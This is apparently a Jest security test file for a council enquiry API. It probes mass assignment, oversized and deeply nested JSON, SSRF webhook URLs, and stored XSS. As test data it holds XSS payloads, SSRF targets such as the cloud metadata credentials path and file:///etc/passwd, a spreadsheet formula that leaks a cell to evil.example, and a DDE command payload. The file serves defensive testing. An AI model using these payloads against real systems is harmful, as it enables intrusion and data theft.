import { createHmac, randomUUID } from 'node:crypto';
import { lookup } from 'node:dns/promises';
import os from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import request from 'supertest';
import { auth, escalate, newEnquiry } from '../support/factories.js';
import { signedHeaders } from '../support/signing.js';
import {
  changedTables,
  createHoldings,
  fillPath,
  idFor,
  isIdParameter,
  openApiDocument,
  operationsOf,
  organisationFingerprint,
  provisionSecurityTenant,
  sendLarge,
  suffix,
  type Holdings,
  type Operation,
  type SecurityTenant,
} from '../support/security.js';
import { login, startTestApp, type TestApp } from '../support/test-app.js';
import { ROUTES, validBody } from './route-table.js';

const MASS_ASSIGNED = ['status', 'organisationId', 'id', '__proto__', 'constructor', 'toString', 'valueOf'] as const;
/** Script, event-handler, URL and template payloads; stored and answered as the very same text. */
const XSS = `<img src=x onerror="alert(1)"><script>alert('xss')</script><a href="javascript:alert(3)">x</a>{{constructor.constructor('alert(4)')()}}"'><svg/onload=alert(5)>`;

function callLog(overrides: Record<string, unknown> = {}) {
  return {
    callId: `call-${randomUUID()}`,
    callerNumber: '+447700900321',
    direction: 'inbound',
    startedAt: '2026-11-23T09:00:00Z',
    endedAt: '2026-11-23T09:06:30Z',
    ...overrides,
  };
}

/** `body` as JSON text with `field` added (by hand for `__proto__`, which JSON.stringify would not write). */
function withField(body: unknown, field: string, value: unknown = field === 'id' ? randomUUID() : 'planted'): string {
  const base = body && typeof body === 'object' ? JSON.stringify(body) : '{}';
  const addition = `${JSON.stringify(field)}:${JSON.stringify(field === '__proto__' || field === 'constructor' ? { isAdmin: true } : value)}`;
  return base === '{}' ? `{${addition}}` : `${base.slice(0, -1)},${addition}}`;
}

/** Every string anywhere in a JSON value. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value && typeof value === 'object') return Object.values(value).flatMap(strings);
  return [];
}

/**
 * Hostile input over HTTP: mass assignment on every JSON body of the OpenAPI document, oversized and deeply
 * nested bodies, SSRF targets as delivery URLs, and XSS payloads in every text field staff see.
 */
describe('hostile input over HTTP', () => {
  let app: TestApp;
  let operations: Operation[];
  let tenant: SecurityTenant;
  let held: Holdings;
  const figures = { massAssignmentProbes: 0, oversizedProbes: 0, nestingProbes: 0, ssrfTargets: 0, xssFields: 0, serverErrors: 0 };
  const noServerError = (response: request.Response) => {
    if (response.status >= 500) figures.serverErrors += 1;
    return response;
  };

  beforeAll(async () => {
    // No allowlist: every SSRF rule applies. E-mail limited to 1 MB so that "too large" is cheap to send.
    app = await startTestApp({ SIGNPOST_WEBHOOK_ALLOWLIST: '', EMAIL_MAX_BYTES: String(1024 * 1024) });
    tenant = await provisionSecurityTenant(app, `sec-hostile-${suffix()}`);
    held = await createHoldings(app, tenant);
    operations = operationsOf(await openApiDocument(app));
  }, 120_000);
  afterAll(async () => {
    await app?.stop();
    console.log(`hostile input: ${JSON.stringify(figures)}`);
  });

  it('refuses server-owned and prototype fields on every JSON body with a 400 naming the field, and changes nothing', async () => {
    const before = await organisationFingerprint(tenant.id);
    const problems: string[] = [];
    const withBodies = operations.filter(
      (operation) => operation.operation.requestBody?.content['application/json'] && !operation.path.startsWith('/api/channels/'),
    );
    expect(withBodies.length).toBeGreaterThan(30);
    for (const operation of withBodies) {
      const rule = ROUTES[operation.key];
      if (!rule) {
        problems.push(`${operation.key} has no entry in the route table`);
        continue;
      }
      const parameters = (operation.path.match(/\{(\w+)\}/g) ?? []).map((p) => p.slice(1, -1));
      // The caller's own, real resources: without the planted field, most of these requests would act.
      const path = fillPath(
        operation.path,
        Object.fromEntries(
          parameters.map((p) => [p, isIdParameter(p) ? idFor(operation.path, p, held, tenant) : p === 'recordType' ? 'webchat' : 'phone']),
        ),
      );
      const token = rule.roles === 'public' ? undefined : tenant.tokens[rule.roles[0]];
      for (const field of MASS_ASSIGNED) {
        figures.massAssignmentProbes += 1;
        let call = request(app.url)[operation.method](path).set('content-type', 'application/json');
        if (token) call = call.set(auth(token));
        const response = noServerError(await call.send(withField(validBody(operation.key, tenant, held), field)));
        const named =
          response.body.errors?.some((error: { field: string }) => error.field === field) && String(response.body.message).includes(field);
        if (response.status !== 400 || !named)
          problems.push(`${operation.key} + ${field}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`);
      }
    }
    // Nested: a server-owned field inside an object is refused by its path.
    const nested = await request(app.url)
      .post('/api/enquiries')
      .set(auth(tenant.tokens.advisor))
      .send({
        channel: 'phone',
        requesterType: 'citizen',
        subject: { name: 'Nested Probe', organisationId: randomUUID() },
        description: 'probe',
      });
    figures.massAssignmentProbes += 1;
    expect(nested.status).toBe(400);
    expect(nested.body.message).toContain('subject.organisationId');
    expect(problems).toEqual([]);
    expect(changedTables(before, await organisationFingerprint(tenant.id))).toEqual([]);
  }, 120_000);

  it('refuses server-owned and prototype fields in signed channel pushes with a 400 naming the field', async () => {
    const before = await organisationFingerprint(tenant.id);
    for (const field of MASS_ASSIGNED) {
      const body = withField(callLog(), field);
      figures.massAssignmentProbes += 1;
      const response = noServerError(
        await request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(body)).send(body),
      );
      expect({ field, status: response.status }).toEqual({ field, status: 400 });
      expect(response.body.message).toContain(field);
    }
    expect(changedTables(before, await organisationFingerprint(tenant.id))).toEqual([]);
  });

  it('answers bodies over each route’s limit with 413, whoever sends them', async () => {
    const before = await organisationFingerprint(tenant.id);
    const bigJson = JSON.stringify({
      channel: 'phone',
      requesterType: 'citizen',
      subject: { name: 'Big' },
      description: 'x'.repeat(1024 * 1024 + 10),
    });
    const bigMail = `From: a@example.org\r\nTo: contact@${tenant.slug}.test\r\nSubject: big\r\n\r\n${'x'.repeat(1024 * 1024 + 10)}`;
    const probes: [string, string, Record<string, string>, string][] = [
      ['JSON, staff', '/api/enquiries', { ...auth(tenant.tokens.advisor), 'content-type': 'application/json' }, bigJson],
      ['JSON, anonymous', '/api/auth/login', { 'content-type': 'application/json' }, bigJson],
      ['JSON, signed push', `/api/channels/phone/${tenant.slug}/calls`, signedHeaders(bigJson), bigJson],
      ['JSON, unsigned push', `/api/channels/forms/${tenant.slug}/submissions`, { 'content-type': 'application/json' }, bigJson],
      [
        'CSV over 10 MB',
        '/api/calls/import',
        { ...auth(tenant.tokens.supervisor), 'content-type': 'text/csv' },
        `callId\n${'x'.repeat(10 * 1024 * 1024 + 10)}`,
      ],
      [
        'e-mail over EMAIL_MAX_BYTES',
        `/api/channels/email/${tenant.slug}/inbound`,
        { ...signedHeaders(bigMail), 'content-type': 'message/rfc822' },
        bigMail,
      ],
    ];
    for (const [what, path, headers, body] of probes) {
      figures.oversizedProbes += 1;
      const response = await sendLarge('POST', `${app.url}${path}`, headers, body);
      if (response.status >= 500) figures.serverErrors += 1;
      expect({ what, status: response.status }).toEqual({ what, status: 413 });
      expect(JSON.parse(response.text)).toMatchObject({ statusCode: 413, message: expect.any(String) });
    }
    await request(app.url).get('/health').expect(200);
    expect(changedTables(before, await organisationFingerprint(tenant.id))).toEqual([]);
  }, 60_000);

  it('answers JSON nested 10,000 deep with a 4xx, never a 5xx, on staff, public and signed routes', async () => {
    const before = await organisationFingerprint(tenant.id);
    const deepArray = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
    const deepObject = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
    const inField = JSON.stringify({ channel: 'phone', requesterType: 'citizen', subject: { name: 'x' }, description: 'd' }).replace(
      '"x"',
      deepObject,
    );
    const signedDeep = `{"callId":${deepArray}}`;
    const probes: [string, () => request.Test][] = [
      [
        'array at the root',
        () =>
          request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(deepArray),
      ],
      [
        'object at the root',
        () =>
          request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(deepObject),
      ],
      [
        'inside a field',
        () =>
          request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(inField),
      ],
      [
        'an administrator’s PATCH',
        () =>
          request(app.url)
            .patch('/api/organisation')
            .set(auth(tenant.tokens.admin))
            .set('content-type', 'application/json')
            .send(`{"businessHours":{"weekly":${deepObject}}}`),
      ],
      ['login, anonymous', () => request(app.url).post('/api/auth/login').set('content-type', 'application/json').send(deepObject)],
      [
        'signed call log',
        () => request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(signedDeep)).send(signedDeep),
      ],
      [
        'signed social event',
        () => {
          const sig = `sha256=${createHmac('sha256', 'signpost-demo-app-secret').update(deepObject).digest('hex')}`;
          return request(app.url)
            .post('/api/channels/social/lancashire/webhook')
            .set('content-type', 'application/json')
            .set('x-hub-signature-256', sig)
            .send(deepObject);
        },
      ],
      [
        'a million brackets',
        () =>
          request(app.url)
            .post('/api/enquiries')
            .set(auth(tenant.tokens.advisor))
            .set('content-type', 'application/json')
            .send('['.repeat(1_000_000)),
      ],
    ];
    for (const [what, probe] of probes) {
      figures.nestingProbes += 1;
      const response = noServerError(await probe());
      expect({ what, status: response.status >= 400 && response.status < 500 }).toEqual({ what, status: true });
      expect(typeof response.body.message).toBe('string');
    }
    await request(app.url).get('/health').expect(200);
    expect(changedTables(before, await organisationFingerprint(tenant.id))).toEqual([]);
  });

  it('reads words that name JavaScript object internals as plain words', async () => {
    // "constructor" in an enquiry once made routing read Object.prototype and fail every escalation with a 500.
    const words = 'The constructor left __proto__ toString valueOf hasOwnProperty prototype isPrototypeOf by the road';
    const { advisor } = tenant.tokens;
    await request(app.url).post('/api/routing/suggest').set(auth(advisor)).send({ text: words }).expect(200);
    await request(app.url).post('/api/knowledge/suggest').set(auth(advisor)).send({ text: words }).expect(200);
    await request(app.url)
      .get(`/api/knowledge?q=${encodeURIComponent(words)}`)
      .set(auth(advisor))
      .expect(200);
    const created = await newEnquiry(app, advisor, { subject: { name: 'Word Person' }, description: words, legalBasis: undefined });
    await request(app.url)
      .post(`/api/enquiries/${created.id}/topic`)
      .set(auth(advisor))
      .send({ service: 'highways' })
      .expect((r) => expect(r.status).toBeLessThan(300));
    await escalate(app, advisor, created.id, 'highways', { reasonForReferral: words, actionsAlreadyTaken: words });
  });

  it('refuses webhook URLs that reach this machine, private networks or cloud metadata, naming the reason, and keeps the delivery as it was', async () => {
    const admin = auth(tenant.tokens.admin);
    const secret = `whsec_${Buffer.from(randomUUID() + randomUUID())
      .toString('base64')
      .slice(0, 40)}`;
    const targets = [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://[fd00:ec2::254]/latest/meta-data/',
      'http://127.0.0.1:3000/api/users',
      'http://127.1/',
      'http://2130706433/',
      'http://0x7f000001/',
      'http://0177.0.0.1/',
      'http://0.0.0.0:8080/',
      'http://[::1]/hook',
      'http://[::]/hook',
      'http://[::ffff:127.0.0.1]/hook',
      'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
      'http://10.0.0.5/hook',
      'http://10.255.255.255/hook',
      'http://172.16.3.4/hook',
      'http://192.168.1.1/hook',
      'http://100.64.0.1/hook',
      'http://[fe80::1]/hook',
      'http://[fc00::1]/hook',
      // IPv6 prefixes that carry an IPv4 address to a translator or tunnel: local-use NAT64, 6to4, Teredo, IPv4-compatible.
      'http://[64:ff9b:1::a9fe:a9fe]/latest/meta-data/',
      'http://[2002:7f00:1::]/hook',
      'http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/hook',
      'http://[::127.0.0.1]/hook',
      'http://localhost:3000/hook',
      'http://localhost./hook',
      'http://api.localhost/hook',
      'http://user:password@93.184.216.34/hook',
      'ftp://93.184.216.34/hook',
      'file:///etc/passwd',
      'gopher://127.0.0.1:25/_HELO',
      'javascript:alert(1)',
    ];
    // A DNS name that resolves to a private address: this machine's own name usually does.
    const hostname = os.hostname();
    const resolved = await lookup(hostname).catch(() => undefined);
    if (resolved && /^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/.test(resolved.address))
      targets.push(`http://${hostname}:8080/hook`);
    const before = await request(app.url).get('/api/services/blue-badge').set(admin).expect(200);
    const problems: string[] = [];
    for (const url of targets) {
      figures.ssrfTargets += 1;
      const response = noServerError(
        await request(app.url)
          .patch('/api/services/blue-badge')
          .set(admin)
          .send({ delivery: { type: 'webhook', url, secret } }),
      );
      const refused =
        response.status === 400 &&
        ['WEBHOOK_TARGET_REFUSED', 'VALIDATION_FAILED'].includes(response.body.code) &&
        /delivery\.url|url must/.test(response.body.message);
      if (!refused) problems.push(`${url}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`);
    }
    expect(problems).toEqual([]);
    const after = await request(app.url).get('/api/services/blue-badge').set(admin).expect(200);
    expect(after.body).toEqual(before.body);
    // The same request with a public address is accepted: the refusals above are the rules, not a blanket no.
    const control = await request(app.url)
      .patch('/api/services/blue-badge')
      .set(admin)
      .send({ delivery: { type: 'webhook', url: 'https://93.184.216.34/hook', secret } });
    expect(control.status).toBe(200);
    const controlIpv6 = await request(app.url)
      .patch('/api/services/blue-badge')
      .set(admin)
      .send({ delivery: { type: 'webhook', url: 'https://[2606:4700:4700::1111]/hook', secret } });
    expect(controlIpv6.status).toBe(200);
    await request(app.url)
      .patch('/api/services/blue-badge')
      .set(admin)
      .send({ delivery: { type: 'portal' } })
      .expect(200);
  });

  it('returns XSS payloads in every text field staff see exactly as written, as JSON text that no browser sniffs as a page', async () => {
    const { advisor, supervisor, dpo, admin, service } = tenant.tokens;
    const created = await newEnquiry(app, advisor, {
      subject: { name: XSS, address: XSS },
      description: XSS,
      sourceReference: XSS.slice(0, 100),
      legalBasis: undefined,
    });
    const enquiry = created.id;
    await request(app.url).post(`/api/enquiries/${enquiry}/notes`).set(auth(advisor)).send({ text: XSS }).expect(201);
    const referral = await escalate(app, advisor, enquiry, 'blue-badge', {
      reasonForReferral: XSS,
      actionsAlreadyTaken: XSS,
      specialRequirements: XSS,
    });
    await request(app.url).post(`/api/escalations/${referral.id}/updates`).set(auth(service)).send({ text: XSS }).expect(201);
    const resolved = await newEnquiry(app, advisor, { subject: { name: 'Advice Person' }, description: 'probe', legalBasis: undefined });
    await request(app.url).post(`/api/enquiries/${resolved.id}/resolve`).set(auth(advisor)).send({ advice: XSS }).expect(200);
    const subjectRequest = await request(app.url)
      .post('/api/subject-requests')
      .set(auth(dpo))
      .send({
        type: 'access',
        subject: { name: XSS, address: XSS },
        receivedAt: new Date().toISOString().slice(0, 10),
        representative: { name: XSS, relationship: XSS },
      })
      .expect(201);
    await request(app.url)
      .post(`/api/subject-requests/${subjectRequest.body.id}/clarification`)
      .set(auth(dpo))
      .send({ reason: XSS })
      .expect((r) => expect(r.status).toBeLessThan(300));
    await request(app.url).post('/api/legal-holds').set(auth(dpo)).send({ enquiryId: enquiry, reason: XSS }).expect(201);
    const article = await request(app.url).post('/api/knowledge').set(auth(supervisor)).send({ title: XSS, body: XSS }).expect(201);
    await request(app.url)
      .post('/api/users')
      .set(auth(admin))
      .send({ email: `xss-${suffix()}@${tenant.slug}.test`, displayName: XSS, role: 'advisor', password: 'a-long-enough-password' })
      .expect(201);
    await request(app.url).patch(`/api/services/${tenant.localService}`).set(auth(admin)).send({ name: XSS }).expect(200);
    await request(app.url)
      .post('/api/organisation/privacy-notices')
      .set(auth(admin))
      .send({ version: `x${suffix()}`, title: XSS, body: XSS, effectiveFrom: '2099-01-01' })
      .expect(201);
    await request(app.url)
      .post('/api/organisation/privacy-notices')
      .set(auth(admin))
      .send({ version: `y${suffix()}`, title: 'Link', url: 'javascript:alert(1)', effectiveFrom: '2099-01-01' })
      .expect(400);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    await request(app.url)
      .patch('/api/organisation')
      .set(auth(admin))
      .send({
        processors: [
          { name: XSS, purpose: XSS, location: 'UK' },
          { name: formula, purpose: '+cmd|" /C calc"!A0', location: 'UK' },
        ],
      })
      .expect(200);
    // Spreadsheet exports show a formula as text: the cell starts with an apostrophe.
    const csv = await request(app.url).get('/api/organisation/record-of-processing?format=csv').set(auth(admin)).expect(200);
    expect(csv.text).toContain(`"'${formula.replace(/"/g, '""')}`);
    expect(csv.text).not.toMatch(/(^|,)"[=+\-@]/m);
    const call = JSON.stringify(
      callLog({ callerName: XSS, agent: XSS.slice(0, 100), queue: XSS.slice(0, 100), disposition: XSS.slice(0, 100) }),
    );
    const logged = await request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(call)).send(call);
    expect([201, 400]).toContain(logged.status); // 400: a field too long or not allowed, named; never stored then
    const mail = [
      `From: "${XSS.replace(/"/g, "'")}" <xss.sender@example.org>`,
      `To: contact@${tenant.slug}.test`,
      `Subject: ${XSS}`,
      `Message-ID: <${suffix()}@example.org>`,
      '',
      XSS,
    ].join('\r\n');
    const mailed = await request(app.url)
      .post(`/api/channels/email/${tenant.slug}/inbound`)
      .set({ ...signedHeaders(mail), 'content-type': 'message/rfc822' })
      .send(mail)
      .expect(201);

    const reads: [string, string, number][] = [
      [advisor, `/api/enquiries/${enquiry}`, 4], // name, address, description, note (and the service's update)
      [advisor, `/api/enquiries/${resolved.id}`, 1],
      [service, `/api/escalations/${referral.id}`, 3],
      [dpo, `/api/subject-requests/${subjectRequest.body.id}`, 3],
      [dpo, '/api/legal-holds', 1],
      [advisor, `/api/knowledge/${article.body.id}`, 2],
      [admin, '/api/users', 1],
      [advisor, `/api/services/${tenant.localService}`, 1],
      [advisor, '/api/organisation/privacy-notices', 2],
      [admin, '/api/organisation', 2],
      [advisor, `/api/enquiries/${mailed.body.enquiryId}`, 1],
      ...(logged.status === 201 ? ([[advisor, `/api/enquiries/${logged.body.enquiryId}`, 1]] as [string, string, number][]) : []),
    ];
    for (const [token, path, expected] of reads) {
      const response = await request(app.url).get(path).set(auth(token)).expect(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      const found = strings(response.body).filter((text) => text.includes(XSS)).length;
      figures.xssFields += found;
      expect({ path, atLeast: found >= expected }).toEqual({ path, atLeast: true });
      // Never an escaped copy either: the API answers the text as written, the pages escape it.
      expect(JSON.stringify(response.body)).not.toMatch(/&lt;img|&lt;script/);
    }
  });
});

describe('hostile input in production mode', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await startTestApp({ NODE_ENV: 'production', SIGNPOST_WEBHOOK_ALLOWLIST: '' });
  }, 60_000);
  afterAll(async () => {
    await app?.stop();
  });

  it('refuses plain-http webhook URLs, even to a public address, and sends HSTS', async () => {
    const tenant = await provisionSecurityTenant(app, `sec-prod-${suffix()}`);
    const secret = `whsec_${Buffer.from(randomUUID() + randomUUID())
      .toString('base64')
      .slice(0, 40)}`;
    const refused = await request(app.url)
      .patch('/api/services/highways')
      .set(auth(tenant.tokens.admin))
      .send({ delivery: { type: 'webhook', url: 'http://93.184.216.34/hook', secret } })
      .expect(400);
    expect(refused.body).toMatchObject({ code: 'WEBHOOK_TARGET_REFUSED', message: expect.stringContaining('https') });
    await request(app.url)
      .patch('/api/services/highways')
      .set(auth(tenant.tokens.admin))
      .send({ delivery: { type: 'webhook', url: 'https://93.184.216.34/hook', secret } })
      .expect(200);
    const health = await request(app.url).get('/health').expect(200);
    expect(health.headers['strict-transport-security']).toContain('max-age=');
    // Demo accounts exist in the shared test database, but production mode does not change how logins work.
    expect(typeof (await login(app, `advisor@${tenant.slug}.test`))).toBe('string');
  });
});
